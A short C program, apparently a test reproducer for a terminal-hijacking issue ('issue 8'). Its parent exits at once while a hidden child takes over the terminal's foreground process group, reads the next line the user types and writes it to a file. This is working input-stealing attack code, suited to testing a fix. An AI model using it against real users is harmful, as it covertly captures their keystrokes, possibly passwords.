// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * The terminal attack of issue 8: the program returns at once, leaving a child behind that
 * takes the terminal's foreground (tcsetpgrp) and reads the next line the user types.
 *
 *   tty_thief PIDFILE OUTFILE
 *
 * The child writes its pid to PIDFILE, then what it read from fd 0 to OUTFILE.
 */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	char line[256];
	ssize_t n;
	pid_t pid;
	FILE *f;
	int fd;

	if (argc != 3)
		return 2;
	pid = fork();
	if (pid != 0)
		return pid < 0; /* the program "ends" */
	signal(SIGHUP, SIG_IGN);
	signal(SIGTTOU, SIG_IGN);
	signal(SIGTTIN, SIG_IGN);
	setpgid(0, 0);
	tcsetpgrp(0, getpgrp()); /* the foreground of whatever terminal fd 0 is */
	f = fopen(argv[1], "w");
	if (!f)
		return 3;
	fprintf(f, "%d\n", (int)getpid());
	fclose(f);
	n = read(0, line, sizeof(line) - 1);
	if (n <= 0)
		return 4;
	fd = open(argv[2], O_WRONLY | O_CREAT | O_TRUNC, 0600);
	if (fd < 0 || write(fd, line, n) != n)
		return 5;
	close(fd);
	return 0;
}
